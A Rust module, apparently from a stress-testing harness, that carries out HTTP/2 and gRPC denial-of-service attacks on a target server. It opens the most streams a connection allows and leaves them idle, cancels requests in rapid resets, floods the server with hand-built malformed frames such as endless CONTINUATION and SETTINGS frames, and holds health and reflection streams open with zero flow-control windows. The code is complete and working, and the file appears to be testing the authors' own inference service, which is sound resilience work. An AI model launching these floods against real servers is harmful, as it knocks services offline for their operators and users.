//! Attacks by streams of HTTP/2: begun and left, reset, never ended, never read.

use std::{io, time::Duration};

use h2::{SendStream, client::ResponseFuture};
use hyper::body::Bytes;
use tokio::{io::AsyncReadExt as _, io::AsyncWriteExt as _, time::sleep};

use super::{
    grpc_messages,
    random::Random,
    send::{begin, hold, message, repeat, write},
    target::{Listener, OPEN, Target, Windows},
};

const WATCH: &str = "/grpc.health.v1.Health/Watch";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// As many as the server lets a client have on a connection.
const STREAMS: usize = 128;

type Begun = (ResponseFuture, SendStream<Bytes>);

/// Connections that begin as many requests as they can, and send nothing further.
pub(crate) async fn begun(target: &Target, mut random: Random) {
    let (path, content_type) = random.pick(&[
        ("/classify", "application/octet-stream"),
        ("/classify", "application/json"),
        ("/models/bearing/classify", "audio/wav"),
        ("/models/bearing/classify", "multipart/form-data; boundary=b"),
    ]);
    let listener = random.pick(&[Listener::Http, Listener::Http, Listener::Grpc]);
    let start = Bytes::from(vec![0; random.pick(&[0, 4, 9000])]);
    let open = |_, target: Target| {
        let start = start.clone();
        async move {
            let sender = target.http2(listener, OPEN).await?;
            let mut streams: Vec<Begun> = Vec::new();
            for _ in 0..STREAMS {
                let path = if listener == Listener::Grpc { WATCH } else { path };
                let request = target.request(listener, "POST", path, content_type);
                let Ok((answer, mut body)) = begin(&sender, request).await else { break };
                let _ = body.send_data(start.clone(), false);
                streams.push((answer, body));
            }
            Ok::<_, io::Error>((sender, streams))
        }
    };
    hold(random.within(10, 60), open, target).await;
}

/// Requests that are refused or reset as soon as they have begun, as many as there is time for.
pub(crate) async fn resets(target: &Target, mut random: Random) {
    let is_reset = random.below(3) > 0;
    let (listener, path) = random.pick(&[
        (Listener::Http, "/classify"),
        (Listener::Http, "/nowhere"),
        (Listener::Http, "/v2/models/mnist/infer"),
        (Listener::Grpc, "/inference.GRPCInferenceService/ModelInfer"),
        (Listener::Grpc, "/drsn.v1.Classifier/Classify"),
    ]);
    let body = Bytes::from(vec![0; random.pick(&[1, 3136, 100_000])]);
    let begin_many = move |target: Target| {
        let body = body.clone();
        async move {
            let sender = target.http2(listener, OPEN).await?;
            loop {
                let request = target.request(listener, "POST", path, "application/grpc");
                let begun = begin(&sender, request).await;
                let (answer, mut stream) = begun.map_err(io::Error::other)?;
                let _ = stream.send_data(body.clone(), !is_reset);
                if is_reset {
                    stream.send_reset(h2::Reason::CANCEL);
                    // The connection sends what was begun, and may end.
                    tokio::task::yield_now().await;
                } else {
                    answer.await.map_err(io::Error::other)?;
                }
            }
        }
    };
    repeat(random.within(2, 12), begin_many, target).await;
}

/// Frames that mean nothing, and each of which has to be looked at.
pub(crate) async fn frames(target: &Target, mut random: Random) {
    let frame = |kind: u8, flags: u8, stream: u32, content: &[u8]| {
        let length = &(content.len() as u32).to_be_bytes()[1..];
        [length, &[kind, flags], &stream.to_be_bytes(), content].concat()
    };
    let settings = frame(4, 0, 0, &[]);
    let (first, again) = match random.below(6) {
        // Headers that do not end.
        0 => (frame(1, 0, 1, &[0x82]), frame(9, 0, 1, &[0, 1, b'a', 1, b'b'].repeat(100))),
        1 => (frame(1, 0, 1, &[0x82]), frame(9, 0, 1, &[])),
        2 => (settings.clone(), settings.clone()),
        3 => (vec![], frame(6, 0, 0, &[0; 8])),
        4 => (vec![], frame(2, 0, 3, &[0, 0, 0, 1, 9])),
        _ => (vec![], frame(8, 0, 0, &[0, 0, 0, 1])),
    };
    let listener = random.pick(&[Listener::Http, Listener::Grpc]);
    let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &settings[..], &first].concat();
    let many = again.repeat(16_384 / again.len());
    let send = move |target: Target| {
        let (preface, many) = (preface.clone(), many.clone());
        async move {
            let link = target.connect(listener, b"h2", false).await?;
            let (mut reading, mut writing) = tokio::io::split(link);
            writing.write_all(&preface).await?;
            let mut answers = vec![0; 1 << 14];
            loop {
                tokio::select! {
                    sent = writing.write_all(&many) => sent?,
                    read = reading.read(&mut answers) => if read? == 0 {
                        return Err(io::ErrorKind::ConnectionReset.into());
                    },
                }
            }
        }
    };
    repeat(random.within(2, 12), send, target).await;
}

/// Calls that carry a whole message and do not end.
pub(crate) async fn unended(target: &Target, mut random: Random) {
    let post = grpc_messages::whole(&mut random);
    let streams = random.within(1, 20);
    let open = |_, target: Target| {
        let post = post.clone();
        async move {
            let sender = target.http2(Listener::Grpc, OPEN).await?;
            let mut begun: Vec<Begun> = Vec::new();
            for _ in 0..streams {
                let request = post.request(&target);
                let Ok((answer, mut body)) = begin(&sender, request).await else { break };
                let _ = write(&mut body, post.body.clone(), false).await;
                begun.push((answer, body));
            }
            Ok::<_, io::Error>((sender, begun))
        }
    };
    hold(random.within(5, 30), open, target).await;
}

/// Questions to the health and reflection services whose answers are not read.
pub(crate) async fn unread(target: &Target, mut random: Random) {
    let window = random.pick(&[0, 1, 100, 65_535]);
    let windows = Windows { stream: window, connection: random.pick(&[65_535, 1 << 20]) };
    let path = random.pick(&[REFLECTION, REFLECTION, WATCH, "/grpc.health.v1.Health/Check"]);
    let question = match (path, random.below(3)) {
        (WATCH | "/grpc.health.v1.Health/Check", _) => message(&[], false),
        // List the services; describe one; describe one that is not there.
        (_, 0) => message(&[0x3a, 0], false),
        (_, 1) => message(b"\x22\x12drsn.v1.Classifier", false),
        _ => message(&[&b"\x22\xc0\x3e"[..], &[b'x'; 8000]].concat(), false),
    };
    let questions = if path == REFLECTION { question.repeat(100) } else { question };
    let questions = Bytes::from(questions);
    let open = |_, target: Target| {
        let questions = questions.clone();
        async move {
            let sender = target.http2(Listener::Grpc, windows).await?;
            let mut streams: Vec<Begun> = Vec::new();
            for _ in 0..STREAMS {
                let request = target.request(Listener::Grpc, "POST", path, "application/grpc");
                let Ok((answer, mut body)) = begin(&sender, request).await else { break };
                let sending = write(&mut body, questions.clone(), false);
                let _ = tokio::time::timeout(Duration::from_millis(200), sending).await;
                streams.push((answer, body));
            }
            Ok::<_, io::Error>((sender, streams))
        }
    };
    hold(random.within(5, 30), open, target).await;
}

/// Watches without end, some of which are given up and begun again.
pub(crate) async fn watches(target: &Target, mut random: Random) {
    let service = random.pick(&[&b""[..], b"\x0a\x12drsn.v1.Classifier", b"\x0a\x01x"]);
    let question = Bytes::from(message(service, false));
    let pause = Duration::from_millis(random.pick(&[1, 100, 10_000]));
    let watch = move |target: Target| {
        let question = question.clone();
        async move {
            let sender = target.http2(Listener::Grpc, OPEN).await?;
            loop {
                let mut streams: Vec<Begun> = Vec::new();
                for _ in 0..STREAMS - 8 {
                    let request = target.request(Listener::Grpc, "POST", WATCH, "application/grpc");
                    let begun = begin(&sender, request).await.map_err(io::Error::other)?;
                    let (answer, mut body) = begun;
                    let _ = body.send_data(question.clone(), true);
                    streams.push((answer, body));
                }
                sleep(pause).await;
            }
        }
    };
    repeat(random.within(5, 30), watch, target).await;
}
